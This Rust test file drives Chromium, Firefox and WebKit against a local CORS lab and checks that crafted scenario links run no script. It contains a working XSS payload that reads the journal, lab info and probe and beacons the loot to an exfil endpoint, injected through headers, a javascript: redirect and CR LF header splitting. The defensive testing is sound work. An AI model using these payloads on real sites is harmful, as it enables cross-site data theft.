//! The lab's trust by role (#26), tried as an attacker would in each browser:
//! a crafted scenario URL opened top level — a link or a redirect on any
//! website — on every origin the lab listens on, with a script in every field
//! a URL decides, runs nothing that can read the journal, the lab info or use
//! the probe. The script, where it ran, would read `/journal` on its own
//! origin and on the app origin, `/lab.json`, ask `/probe`, then send what it
//! read back to the lab's journal (run `exfil`): the journal shows any read.
//! A control page on another origin runs the same script (so the test can see
//! a script run), and is refused everything; it cannot drive the lab's
//! same-origin page either.

mod support;

use corscope_engine::lab::{percent_encode, JournalEntry, ScenarioQuery};
use corscope_lab::LabHandle;
use support::*;

/// The attacker's script: every read it can try, then its loot sent home.
fn payload(app: &str, lab: &str) -> String {
    format!(
        r#"<script>(async () => {{
  document.title = 'ran';
  const out = [];
  const read = async (label, url, init) => {{
    try {{ const r = await fetch(url, init); out.push(label + ':' + r.status + ':' + (await r.text()).slice(0, 300)); }}
    catch (e) {{ out.push(label + ':failed'); }}
  }};
  await read('journal-here', '/journal?prefix=');
  await read('info-here', '/lab.json');
  await read('journal-app', '{app}/journal?prefix=');
  await read('info-app', '{app}/lab.json');
  const ask = JSON.stringify({{page: location.origin, request: {{url: '{lab}/s/v1?run=probe-used'}}, browser: 'chromium'}});
  await read('probe-here', '/probe', {{method: 'POST', body: ask}});
  await read('probe-app', '{app}/probe', {{method: 'POST', body: ask}});
  document.title = 'ran:' + out.join('|');
  new Image().src = '{lab}/s/v1?run=exfil&d=' + encodeURIComponent(out.join('|'));
}})();</script>"#
    )
}

/// Every place a URL puts the payload, as the path and query that carry it.
fn crafted_paths(script: &str, raw: bool) -> Vec<(String, String)> {
    let scenario = |label: &str, cfg: serde_json::Value| {
        let query = ScenarioQuery {
            run: "attack".into(),
            hop: 0,
            cfg: cfg.to_string(),
        };
        (label.to_string(), format!("/s/v1?{}", query.encode()))
    };
    let html = |extra: serde_json::Value| {
        let mut headers = vec![serde_json::json!(["Content-Type", "text/html"])];
        if let serde_json::Value::Array(more) = extra {
            headers.extend(more);
        }
        headers
    };
    let mut paths = vec![
        // The body, as HTML.
        scenario(
            "body",
            serde_json::json!({"response": {"status": 200, "headers": html(serde_json::json!([])), "body": script}}),
        ),
        // The body, with the answer's own CSP trying to allow scripts.
        scenario(
            "body + its own CSP",
            serde_json::json!({"response": {"status": 200, "headers": html(serde_json::json!([["Content-Security-Policy", "sandbox allow-scripts allow-same-origin"]])), "body": script}}),
        ),
        // The status (not a number: the 400 names what it got).
        scenario(
            "status",
            serde_json::json!({"response": {"status": script, "headers": html(serde_json::json!([]))}}),
        ),
        // A header name (refused with a 400 that names it).
        scenario(
            "header name",
            serde_json::json!({"response": {"status": 200, "headers": [[script, "v"]]}}),
        ),
        // A header value, as text (no raw bytes).
        scenario(
            "header value",
            serde_json::json!({"response": {"status": 200, "headers": html(serde_json::json!([["X-A", script]])), "body": script}}),
        ),
        // A redirect to a javascript: URL.
        scenario(
            "location",
            serde_json::json!({"response": {"status": 302, "headers": [["Location", format!("javascript:{}", script.trim_start_matches("<script>").trim_end_matches("</script>"))]]}}),
        ),
        // A redirect chain's hop and an unusable cfg.
        (
            "hop".into(),
            format!("/s/v1?run=attack&hop={}&cfg=%7B%7D", percent_encode(script)),
        ),
        ("cfg".into(), format!("/s/v1?run=attack&cfg={}", percent_encode(script))),
        (
            "run id".into(),
            format!("/s/v1?run={}&cfg=%7B%7D", percent_encode(script)),
        ),
        ("policy name".into(), format!("/policy/{}", percent_encode(script))),
        ("any path".into(), format!("/{}", percent_encode(script))),
    ];
    if raw {
        // Issue 26's injection: CR LF in a header value, a page in place of the answer.
        let value = format!("v\r\nContent-Type: text/html\r\n\r\n{script}");
        paths.push(scenario(
            "raw CR LF in a value",
            serde_json::json!({"response": {"status": 200, "headers": [["X-A", value]]}}),
        ));
        let bare = format!("v\nContent-Type: text/html\n\n{script}");
        paths.push(scenario(
            "raw LF in a value",
            serde_json::json!({"response": {"status": 200, "headers": [["X-A", bare]]}}),
        ));
    }
    paths
}

fn secret_entry() -> JournalEntry {
    JournalEntry {
        seq: 0,
        run: "secret-run".into(),
        method: "GET".into(),
        url: "/s/v1?run=secret-run".into(),
        host: "localhost".into(),
        cookies: true,
        headers: vec![("authorization".into(), "Bearer secret-token".into())],
    }
}

/// Only the control's report arrived, and nobody used the probe.
fn no_loot(lab: &LabHandle, what: &str) {
    let exfil = lab.journal.run("exfil");
    assert_eq!(exfil.len(), 1, "{what}: a crafted link's script reported: {exfil:?}");
    let probed = lab.journal.run("probe-used");
    assert!(probed.is_empty(), "{what}: the probe was used: {probed:?}");
}

async fn crafted_links_run_nothing(kind: Kind) {
    let lab = lab(&dist("dist"), "/").await;
    lab.journal.record(secret_entry());
    let app = lab.page_origin();
    let script = payload(&app, &lab.lab_origin());
    let mut targets: Vec<(String, bool)> = vec![
        (lab.lab_origin(), true),
        (format!("http://api.localhost:{}", lab.lab_port), true),
        (format!("http://127.0.0.1:{}", lab.lab_port), true),
        (lab.frame_origin(), true),
        // The app origin answers no scenario: the same links there are 404s.
        (app.clone(), false),
    ];
    // HTTPS refuses raw bytes (a 400), so only the other placements go there.
    targets.push((lab.https_origin().unwrap(), false));
    // The cookie hosts, over https and over plain http (raw bytes there too).
    targets.push((lab.cookie_origin("corscope-b.localhost").unwrap(), false));
    targets.push((lab.cookie_http_origin("corscope-b.localhost").unwrap(), true));
    // A control: the same script on a website that is not the lab runs, and is refused.
    let (port, site) = stranger_site(format!("<!doctype html><title>x</title>{script}")).await;
    let control = format!("http://127.0.0.1:{port}/");
    let lab = std::sync::Arc::new(lab);
    let shared = lab.clone();
    with_browser(kind, move |c| async move {
        let lab = shared;
        c.goto(&control).await.unwrap();
        let mut title = String::new();
        for _ in 0..50 {
            title = c.title().await.unwrap();
            if title.starts_with("ran:") {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert!(
            title.starts_with("ran:"),
            "{}: the control script did not run: {title}",
            kind.name()
        );
        assert!(
            !title.contains("secret-token"),
            "{}: a stranger read the journal: {title}",
            kind.name()
        );
        for read in ["journal-app:403", "info-app:403", "probe-app:403"] {
            assert!(title.contains(read), "{}: {read} not in {title}", kind.name());
        }
        // Its loot went to the lab's scenario endpoint: the control's exfil is visible, so a real one would be.
        for _ in 0..30 {
            if !lab.journal.run("exfil").is_empty() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        let exfil = lab.journal.run("exfil");
        assert_eq!(exfil.len(), 1, "{}: the control's report did not arrive", kind.name());
        assert!(!exfil[0].url.contains("secret-token"));
        assert!(
            lab.journal.run("probe-used").is_empty(),
            "{}: the stranger used the probe",
            kind.name()
        );

        let mut opened = 0;
        for (origin, raw) in &targets {
            for (label, path) in crafted_paths(&script, *raw) {
                let url = format!("{origin}{path}");
                // Firefox shows an error page for a redirect to javascript: (WebDriver says so: fine).
                if let Err(e) = c.goto(&url).await {
                    assert!(label == "location", "{}: {label} on {origin}: {e}", kind.name());
                }
                tokio::time::sleep(std::time::Duration::from_millis(150)).await;
                let title = c.title().await.unwrap_or_default();
                assert!(
                    !title.starts_with("ran"),
                    "{}: {label} on {origin}: the script ran: {title}",
                    kind.name()
                );
                opened += 1;
            }
        }
        // Whatever ran late would have reported by now.
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        no_loot(&lab, kind.name());
        assert!(opened >= 60, "{opened} crafted links opened");
    })
    .await;
    site.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_runs_no_script_from_a_crafted_lab_link_on_any_origin() {
    crafted_links_run_nothing(Kind::Chromium).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn firefox_runs_no_script_from_a_crafted_lab_link_on_any_origin() {
    crafted_links_run_nothing(Kind::Firefox).await;
}

/// Another website cannot use the lab's same-origin page: framing it is refused
/// (frame-ancestors), and it answers only the lab's app as its parent.
async fn the_same_origin_page_serves_the_app_only(kind: Kind) {
    let lab = lab(&dist("dist"), "/").await;
    let frame = lab.frame_origin();
    let app = lab.page_origin();
    let script = format!(
        r#"<script>
  const f = document.createElement('iframe');
  f.src = '{frame}/frame?parent=' + encodeURIComponent('{app}');
  document.body.appendChild(f);
  const ask = {{corscope: 'run', id: 1, url: '{frame}/s/v1?run=framed', request: JSON.stringify({{method: 'GET'}})}};
  let n = 0;
  const again = setInterval(() => {{ try {{ f.contentWindow.postMessage(ask, '*'); }} catch (e) {{}} if (++n > 10) {{ clearInterval(again); document.title = 'asked'; }} }}, 100);
</script>"#
    );
    let (port, site) = stranger_site(format!("<!doctype html><title>x</title><body>{script}</body>")).await;
    let page = format!("http://127.0.0.1:{port}/");
    let lab = std::sync::Arc::new(lab);
    let shared = lab.clone();
    with_browser(kind, move |c| async move {
        c.goto(&page).await.unwrap();
        for _ in 0..50 {
            if c.title().await.unwrap() == "asked" {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        assert_eq!(c.title().await.unwrap(), "asked");
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        assert!(
            shared.journal.run("framed").is_empty(),
            "{}: a stranger drove the lab's same-origin page",
            kind.name()
        );
    })
    .await;
    site.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_lets_no_stranger_drive_the_same_origin_page() {
    the_same_origin_page_serves_the_app_only(Kind::Chromium).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn firefox_lets_no_stranger_drive_the_same_origin_page() {
    the_same_origin_page_serves_the_app_only(Kind::Firefox).await;
}

/// Local Network Access does not stand in the way: a public website's link to a
/// crafted lab URL, clicked, is followed top level without any prompt in
/// Chromium and Firefox, and in WebKit, which has no Local Network Access
/// (checked here: the lab receives the navigation) — and the answer
/// runs nothing. A redirect by script is followed the same way.
async fn a_public_pages_link_is_followed_and_runs_nothing(kind: Kind) {
    let lab = lab(&dist("dist"), "/").await;
    lab.journal.record(secret_entry());
    let script = payload(&lab.page_origin(), &lab.lab_origin());
    let value = format!("v\r\nContent-Type: text/html\r\n\r\n{script}");
    let crafted = |run: &str| {
        let query = ScenarioQuery {
            run: run.into(),
            hop: 0,
            cfg: serde_json::json!({"response": {"status": 200, "headers": [["X-A", value.clone()]]}}).to_string(),
        };
        format!("{}/s/v1?{}", lab.lab_origin(), query.encode())
    };
    let (clicked, redirected) = (crafted("clicked"), crafted("redirected"));
    let html = format!(
        r#"<!doctype html><title>public</title><a id="go" href="{clicked}">a link</a>
<script>if (location.hash === '#redirect') location.href = '{redirected}';</script>"#
    );
    let (port, site) = stranger_site(html).await;
    let page = format!("http://127.0.0.1:{port}/");
    let options = Options {
        public_page_port: Some(port),
        ..Options::default()
    };
    let lab = std::sync::Arc::new(lab);
    let shared = lab.clone();
    with_browser_options(kind, options, move |c| async move {
        let lab = shared;
        c.goto(&page).await.unwrap();
        c.find(fantoccini::Locator::Id("go"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        // WebKit's click can return before the navigation it starts: let it arrive first.
        for _ in 0..50 {
            if !lab.journal.run("clicked").is_empty() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        }
        c.goto(&format!("{page}#redirect")).await.unwrap();
        for run in ["clicked", "redirected"] {
            for _ in 0..50 {
                if !lab.journal.run(run).is_empty() {
                    break;
                }
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            }
            let arrived = lab.journal.run(run);
            assert_eq!(
                arrived.len(),
                1,
                "{}: the {run} navigation did not reach the lab",
                kind.name()
            );
            assert_eq!(
                arrived[0].header("sec-fetch-mode"),
                Some("navigate"),
                "{}: {:?}",
                kind.name(),
                arrived[0]
            );
        }
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        let title = c.title().await.unwrap_or_default();
        assert!(
            !title.starts_with("ran"),
            "{}: the answer's script ran: {title}",
            kind.name()
        );
        assert!(
            lab.journal.run("exfil").is_empty(),
            "{}: the script reported",
            kind.name()
        );
        assert!(lab.journal.run("probe-used").is_empty());
    })
    .await;
    site.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_follows_a_public_pages_link_to_the_lab_and_runs_nothing() {
    a_public_pages_link_is_followed_and_runs_nothing(Kind::Chromium).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn firefox_follows_a_public_pages_link_to_the_lab_and_runs_nothing() {
    a_public_pages_link_is_followed_and_runs_nothing(Kind::Firefox).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webkit_runs_no_script_from_a_crafted_lab_link_on_any_origin() {
    crafted_links_run_nothing(Kind::WebKit).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webkit_lets_no_stranger_drive_the_same_origin_page() {
    the_same_origin_page_serves_the_app_only(Kind::WebKit).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn webkit_follows_a_public_pages_link_to_the_lab_and_runs_nothing() {
    a_public_pages_link_is_followed_and_runs_nothing(Kind::WebKit).await;
}
